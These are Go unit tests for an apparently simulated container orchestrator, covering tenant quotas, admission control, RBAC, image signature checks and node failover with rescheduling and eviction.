		t.Fatal(err)
	}
	// Third deployment exceeds the 1000m quota (3 x 500m).
	if _, err := c.Deploy("ops", spec("g3", "greedy", "acme/analytics:2.0.1", IsolationSoft)); !errors.Is(err, ErrQuotaExceeded) {
		t.Fatalf("err = %v, want ErrQuotaExceeded", err)
	}
	// Another tenant is unaffected.
	if _, err := c.Deploy("ops", spec("ok", "polite", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
		t.Fatalf("co-tenant blocked: %v", err)
	}
}

func TestAdmissionChainRejects(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	c.RegisterAdmission("no-sys-admin", func(s WorkloadSpec, img *container.Image) error {
		if img.Config.HasCapability("CAP_SYS_ADMIN") {
			return fmt.Errorf("image requests CAP_SYS_ADMIN")
		}
		return nil
	})
	if _, err := c.Deploy("ops", spec("miner", "shady", "freestuff/optimizer:latest", IsolationSoft)); !errors.Is(err, ErrDenied) {
		t.Fatalf("err = %v, want ErrDenied", err)
	}
	if _, err := c.Deploy("ops", spec("ok", "acme", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
		t.Fatalf("benign workload rejected: %v", err)
	}
	admitted, rejected := c.Counters()
	if admitted != 1 || rejected != 1 {
		t.Fatalf("counters = %d/%d", admitted, rejected)
	}
}

func TestAdmissionOrder(t *testing.T) {
	// Controllers fan out, so all of them run for every deployment; the
	// verdict is deterministic: the first-registered failure wins.
	c, _ := testCluster(t, Settings{})
	var mu sync.Mutex
	ran := map[string]int{}
	mark := func(name string) {
		mu.Lock()
		ran[name]++
		mu.Unlock()
	}
	c.RegisterAdmission("first", func(WorkloadSpec, *container.Image) error {
		mark("first")
		return nil
	})
	c.RegisterAdmission("second", func(WorkloadSpec, *container.Image) error {
		mark("second")
		return errors.New("stop here")
	})
	c.RegisterAdmission("third", func(WorkloadSpec, *container.Image) error {
		mark("third")
		return errors.New("also failing, but registered later")
	})
	_, err := c.Deploy("ops", spec("x", "t", "acme/analytics:2.0.1", IsolationSoft))
	if !errors.Is(err, ErrDenied) {
		t.Fatalf("err = %v", err)
	}
	if !strings.Contains(err.Error(), "by second") || !strings.Contains(err.Error(), "stop here") {
		t.Fatalf("verdict should come from the first-registered failure, got %v", err)
	}
	mu.Lock()
	defer mu.Unlock()
	if ran["first"] != 1 || ran["second"] != 1 || ran["third"] != 1 {
		t.Fatalf("every controller should run exactly once, got %v", ran)
	}
}

func TestRBACGateOnDeploy(t *testing.T) {
	c, _ := testCluster(t, Settings{RBACEnabled: true})
	e := rbac.NewEngine()
	e.SetRole(rbac.Role{Name: "acme-deployer", Permissions: []rbac.Permission{
		{Verb: "create", Resource: "workloads", Namespace: "acme"},
	}})
	if err := e.Bind("acme-ci", "acme-deployer"); err != nil {
		t.Fatal(err)
	}
	c.RBAC = e
	if _, err := c.Deploy("acme-ci", spec("ok", "acme", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
		t.Fatalf("authorized deploy failed: %v", err)
	}
	// Cross-tenant deploy denied (lateral movement, T5).
	if _, err := c.Deploy("acme-ci", spec("bad", "rival", "acme/analytics:2.0.1", IsolationSoft)); !errors.Is(err, ErrUnauthorized) {
		t.Fatalf("err = %v, want ErrUnauthorized", err)
	}
	// Unknown subject denied.
	if _, err := c.Deploy("stranger", spec("bad2", "acme", "acme/analytics:2.0.1", IsolationSoft)); !errors.Is(err, ErrUnauthorized) {
		t.Fatalf("err = %v, want ErrUnauthorized", err)
	}
}

func TestSignatureVerificationGate(t *testing.T) {
	c, reg := testCluster(t, Settings{})
	c.VerifyImageSignatures = true
	// Unsigned image in registry.
	if _, err := c.Deploy("ops", spec("x", "t", "acme/analytics:2.0.1", IsolationSoft)); err == nil {
		t.Fatal("unsigned image admitted with verification on")
	}
	// Sign and trust.
	pub, err := container.NewPublisher("acme")
	if err != nil {
		t.Fatal(err)
	}
	reg.TrustPublisher("acme", pub.PublicKey())
	img := container.AnalyticsImage()
	sig := pub.Sign(img)
	reg.Push(img, &sig)
	if _, err := c.Deploy("ops", spec("x", "t", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
		t.Fatalf("signed image rejected: %v", err)
	}
}

func TestUnknownImage(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	if _, err := c.Deploy("ops", spec("x", "t", "ghost:1", IsolationSoft)); err == nil {
		t.Fatal("deploy of unknown image succeeded")
	}
}

func TestSettingsFixtures(t *testing.T) {
	ins := InsecureDefaults()
	if !ins.AnonymousAuth || !ins.AllowPrivileged || ins.RBACEnabled {
		t.Fatalf("InsecureDefaults = %+v", ins)
	}
	hard := HardenedSettings()
	if hard.AnonymousAuth || !hard.RBACEnabled || !hard.EtcdEncryption || !hard.TLSOnAPIServer {
		t.Fatalf("HardenedSettings = %+v", hard)
	}
}

func TestIsolationModeString(t *testing.T) {
	if IsolationSoft.String() != "soft" || IsolationHard.String() != "hard" ||
		IsolationMode(9).String() != "isolation(9)" {
		t.Fatal("IsolationMode.String mismatch")
	}
}
