package orchestrator

import (
	"errors"
	"fmt"
	"sync"
	"testing"

	"genio/internal/container"
)

func TestFailoverReschedules(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	w, err := c.Deploy("ops", spec("web", "acme", "acme/analytics:2.0.1", IsolationSoft))
	if err != nil {
		t.Fatal(err)
	}
	origin := w.Node
	res, err := c.FailNode(origin)
	if err != nil {
		t.Fatalf("FailNode: %v", err)
	}
	if len(res.Rescheduled) != 1 || res.Rescheduled[0] != "web" {
		t.Fatalf("rescheduled = %v", res.Rescheduled)
	}
	moved, ok := c.Workload("web")
	if !ok {
		t.Fatal("workload lost")
	}
	if moved.Node == origin {
		t.Fatalf("workload still on failed node %s", origin)
	}
	// Tenant accounting survives the move.
	if use := c.TenantUsage("acme"); use.CPUMilli != 500 {
		t.Fatalf("usage after failover = %+v", use)
	}
}

func TestFailoverEvictsWhenNoCapacity(t *testing.T) {
	reg := container.NewRegistry()
	reg.Push(container.AnalyticsImage(), nil)
	c := NewCluster("small", reg, Settings{})
	c.AddNode("n1", Resources{CPUMilli: 1000, MemoryMB: 1024})
	c.AddNode("n2", Resources{CPUMilli: 1000, MemoryMB: 1024})
	// Fill both nodes.
	for i, node := range []string{"a", "b"} {
		s := WorkloadSpec{Name: node, Tenant: "t", ImageRef: "acme/analytics:2.0.1",
			Isolation: IsolationSoft, Resources: Resources{CPUMilli: 900, MemoryMB: 900}}
		if _, err := c.Deploy("ops", s); err != nil {
			t.Fatalf("deploy %d: %v", i, err)
		}
	}
	victim, _ := c.Workload("a")
	res, err := c.FailNode(victim.Node)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Evicted) == 0 {
		t.Fatalf("expected eviction, got %+v", res)
	}
	// Evicted workload's quota is released.
	if use := c.TenantUsage("t"); use.CPUMilli != 900 {
		t.Fatalf("usage after eviction = %+v", use)
	}
}

func TestFailoverPreservesTenantVMSeparation(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	for _, s := range []WorkloadSpec{
		spec("a1", "acme", "acme/analytics:2.0.1", IsolationSoft),
		spec("r1", "rival", "acme/analytics:2.0.1", IsolationSoft),
		spec("a2", "acme", "acme/iot-gateway:1.4.2", IsolationHard),
	} {
		if _, err := c.Deploy("ops", s); err != nil {
			t.Fatal(err)
		}
	}
	w, _ := c.Workload("a1")
	if _, err := c.FailNode(w.Node); err != nil {
		t.Fatal(err)
	}
	for vm, tenants := range c.SharedVMTenants() {
		if len(tenants) > 1 {
			t.Fatalf("vm %s mixes tenants %v after failover", vm, tenants)
		}
	}
	// Hard isolation is still dedicated.
	if a2, ok := c.Workload("a2"); ok {
		for _, vm := range c.VMs() {
			if vm.ID == a2.VMID && !vm.Dedicated {
				t.Fatal("hard workload landed in shared VM after failover")
			}
		}
	}
}

// TestFailoverZeroHealthyNodes fails the last node standing: everything
// is evicted, quota fully released, and the cluster keeps answering
// (deploys report no capacity rather than wedging).
func TestFailoverZeroHealthyNodes(t *testing.T) {
	reg := container.NewRegistry()
	reg.Push(container.AnalyticsImage(), nil)
	c := NewCluster("lonely", reg, Settings{})
	c.AddNode("n1", Resources{CPUMilli: 2000, MemoryMB: 2048})
	for _, name := range []string{"a", "b"} {
		if _, err := c.Deploy("ops", spec(name, "t", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
			t.Fatalf("deploy %s: %v", name, err)
		}
	}
	res, err := c.FailNode("n1")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rescheduled) != 0 || len(res.Evicted) != 2 {
		t.Fatalf("with no survivors: rescheduled=%v evicted=%v", res.Rescheduled, res.Evicted)
	}
	if got := c.Nodes(); len(got) != 0 {
		t.Fatalf("nodes = %v", got)
	}
	if len(c.Workloads()) != 0 {
		t.Fatalf("workloads survive with zero nodes: %v", c.Workloads())
	}
	if use := c.TenantUsage("t"); use.CPUMilli != 0 || use.MemoryMB != 0 {
		t.Fatalf("quota not released: %+v", use)
	}
	if _, err := c.Deploy("ops", spec("c", "t", "acme/analytics:2.0.1", IsolationSoft)); !errors.Is(err, ErrNoCapacity) {
		t.Fatalf("deploy on empty cluster: %v", err)
	}
}

// TestFailoverSourceAndTargetSimultaneous fails two nodes concurrently —
// the rescheduling target of the first can be the second to die. The
// calls serialize on the cluster lock in either order; afterwards no
// workload may sit on a dead node and accounting must balance.
func TestFailoverSourceAndTargetSimultaneous(t *testing.T) {
	for round := 0; round < 20; round++ {
		reg := container.NewRegistry()
		reg.Push(container.AnalyticsImage(), nil)
		c := NewCluster("pair", reg, Settings{})
		c.AddNode("n1", Resources{CPUMilli: 2000, MemoryMB: 2048})
		c.AddNode("n2", Resources{CPUMilli: 2000, MemoryMB: 2048})
		c.AddNode("n3", Resources{CPUMilli: 500, MemoryMB: 512}) // room for one
		for i := 0; i < 4; i++ {
			s := spec(fmt.Sprintf("w%d", i), "t", "acme/analytics:2.0.1", IsolationSoft)
			if _, err := c.Deploy("ops", s); err != nil {
				t.Fatalf("deploy %d: %v", i, err)
			}
		}
		var wg sync.WaitGroup
		for _, n := range []string{"n1", "n2"} {
			wg.Add(1)
			go func(n string) {
				defer wg.Done()
				if _, err := c.FailNode(n); err != nil {
					t.Errorf("fail %s: %v", n, err)
				}
			}(n)
		}
		wg.Wait()
		live := map[string]bool{}
		for _, n := range c.Nodes() {
			live[n] = true
		}
		if !live["n3"] || len(live) != 1 {
			t.Fatalf("live nodes = %v", c.Nodes())
		}
		var cpu int
		for _, w := range c.Workloads() {
			if !live[w.Node] {
				t.Fatalf("workload %s on dead node %s", w.Spec.Name, w.Node)
			}
			cpu += w.Spec.Resources.CPUMilli
		}
		// Survivor capacity fits exactly one workload; quota must track
		// exactly the surviving set.
		if len(c.Workloads()) > 1 {
			t.Fatalf("survivor overloaded: %v", c.Workloads())
		}
		if use := c.TenantUsage("t"); use.CPUMilli != cpu {
			t.Fatalf("usage %d != placed %d", use.CPUMilli, cpu)
		}
		for _, u := range c.Utilization() {
			if u.Used.CPUMilli > u.Capacity.CPUMilli || u.Used.CPUMilli < 0 {
				t.Fatalf("utilization out of bounds: %+v", u)
			}
		}
	}
}

// TestFailoverReadmissionAfterRecovery evicts under capacity pressure,
// brings a node back, and re-admits the evicted workload: its name and
// quota reservation must have been fully released by the eviction.
func TestFailoverReadmissionAfterRecovery(t *testing.T) {
	reg := container.NewRegistry()
	reg.Push(container.AnalyticsImage(), nil)
	c := NewCluster("recover", reg, Settings{})
	c.AddNode("n1", Resources{CPUMilli: 500, MemoryMB: 512})
	c.SetQuota("t", Resources{CPUMilli: 500, MemoryMB: 512})
	if _, err := c.Deploy("ops", spec("only", "t", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
		t.Fatal(err)
	}
	res, err := c.FailNode("n1")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Evicted) != 1 {
		t.Fatalf("eviction expected: %+v", res)
	}
	// Recovery: the node re-joins (fresh state) and the same workload
	// name deploys again under the same tight quota.
	c.AddNode("n1", Resources{CPUMilli: 500, MemoryMB: 512})
	w, err := c.Deploy("ops", spec("only", "t", "acme/analytics:2.0.1", IsolationSoft))
	if err != nil {
		t.Fatalf("re-admission after recovery: %v", err)
	}
	if w.Node != "n1" {
		t.Fatalf("re-admitted to %s", w.Node)
	}
	if use := c.TenantUsage("t"); use.CPUMilli != 500 {
		t.Fatalf("usage after re-admission = %+v", use)
	}
}

func TestFailUnknownNode(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	if _, err := c.FailNode("ghost"); err == nil {
		t.Fatal("FailNode(ghost) succeeded")
	}
}

func TestNodesAndUtilization(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	if got := c.Nodes(); len(got) != 2 || got[0] != "olt-01" {
		t.Fatalf("Nodes = %v", got)
	}
	if _, err := c.Deploy("ops", spec("w", "t", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
		t.Fatal(err)
	}
	util := c.Utilization()
	total := 0
	for _, u := range util {
		total += u.Used.CPUMilli
	}
	if total != 500 {
		t.Fatalf("total used = %d", total)
	}
	if _, err := c.FailNode("olt-02"); err != nil {
		t.Fatal(err)
	}
	if got := c.Nodes(); len(got) != 1 {
		t.Fatalf("Nodes after failure = %v", got)
	}
}
