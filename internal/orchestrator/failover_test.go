package orchestrator

import (
	"testing"

	"genio/internal/container"
)

func TestFailoverReschedules(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	w, err := c.Deploy("ops", spec("web", "acme", "acme/analytics:2.0.1", IsolationSoft))
	if err != nil {
		t.Fatal(err)
	}
	origin := w.Node
	res, err := c.FailNode(origin)
	if err != nil {
		t.Fatalf("FailNode: %v", err)
	}
	if len(res.Rescheduled) != 1 || res.Rescheduled[0] != "web" {
		t.Fatalf("rescheduled = %v", res.Rescheduled)
	}
	moved, ok := c.Workload("web")
	if !ok {
		t.Fatal("workload lost")
	}
	if moved.Node == origin {
		t.Fatalf("workload still on failed node %s", origin)
	}
	// Tenant accounting survives the move.
	if use := c.TenantUsage("acme"); use.CPUMilli != 500 {
		t.Fatalf("usage after failover = %+v", use)
	}
}

func TestFailoverEvictsWhenNoCapacity(t *testing.T) {
	reg := container.NewRegistry()
	reg.Push(container.AnalyticsImage(), nil)
	c := NewCluster("small", reg, Settings{})
	c.AddNode("n1", Resources{CPUMilli: 1000, MemoryMB: 1024})
	c.AddNode("n2", Resources{CPUMilli: 1000, MemoryMB: 1024})
	// Fill both nodes.
	for i, node := range []string{"a", "b"} {
		s := WorkloadSpec{Name: node, Tenant: "t", ImageRef: "acme/analytics:2.0.1",
			Isolation: IsolationSoft, Resources: Resources{CPUMilli: 900, MemoryMB: 900}}
		if _, err := c.Deploy("ops", s); err != nil {
			t.Fatalf("deploy %d: %v", i, err)
		}
	}
	victim, _ := c.Workload("a")
	res, err := c.FailNode(victim.Node)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Evicted) == 0 {
		t.Fatalf("expected eviction, got %+v", res)
	}
	// Evicted workload's quota is released.
	if use := c.TenantUsage("t"); use.CPUMilli != 900 {
		t.Fatalf("usage after eviction = %+v", use)
	}
}

func TestFailoverPreservesTenantVMSeparation(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	for _, s := range []WorkloadSpec{
		spec("a1", "acme", "acme/analytics:2.0.1", IsolationSoft),
		spec("r1", "rival", "acme/analytics:2.0.1", IsolationSoft),
		spec("a2", "acme", "acme/iot-gateway:1.4.2", IsolationHard),
	} {
		if _, err := c.Deploy("ops", s); err != nil {
			t.Fatal(err)
		}
	}
	w, _ := c.Workload("a1")
	if _, err := c.FailNode(w.Node); err != nil {
		t.Fatal(err)
	}
	for vm, tenants := range c.SharedVMTenants() {
		if len(tenants) > 1 {
			t.Fatalf("vm %s mixes tenants %v after failover", vm, tenants)
		}
	}
	// Hard isolation is still dedicated.
	if a2, ok := c.Workload("a2"); ok {
		for _, vm := range c.VMs() {
			if vm.ID == a2.VMID && !vm.Dedicated {
				t.Fatal("hard workload landed in shared VM after failover")
			}
		}
	}
}

func TestFailUnknownNode(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	if _, err := c.FailNode("ghost"); err == nil {
		t.Fatal("FailNode(ghost) succeeded")
	}
}

func TestNodesAndUtilization(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	if got := c.Nodes(); len(got) != 2 || got[0] != "olt-01" {
		t.Fatalf("Nodes = %v", got)
	}
	if _, err := c.Deploy("ops", spec("w", "t", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
		t.Fatal(err)
	}
	util := c.Utilization()
	total := 0
	for _, u := range util {
		total += u.Used.CPUMilli
	}
	if total != 500 {
		t.Fatalf("total used = %d", total)
	}
	if _, err := c.FailNode("olt-02"); err != nil {
		t.Fatal(err)
	}
	if got := c.Nodes(); len(got) != 1 {
		t.Fatalf("Nodes after failure = %v", got)
	}
}
